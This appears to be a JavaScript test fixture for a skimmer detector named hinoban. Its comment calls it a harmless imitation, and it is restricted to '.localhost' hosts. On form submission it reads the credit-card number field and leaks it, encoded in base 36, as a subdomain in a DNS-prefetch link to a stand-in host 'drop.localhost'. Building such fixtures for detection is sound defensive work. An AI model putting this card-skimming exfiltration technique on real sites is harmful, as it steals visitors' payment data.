/* Harmless imitation, for hinoban's tests: host name as the carrier, in base 36. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('submit', function () {
		var n = document.querySelector('input[autocomplete=cc-number]');
		if (!n) return;
		var l = document.createElement('link');
		l.rel = 'dns-prefetch';
		l.href = 'http://' + BigInt(n.value).toString(36) + '.drop.localhost:' + location.port;
		document.head.appendChild(l);
	}, true);
})();
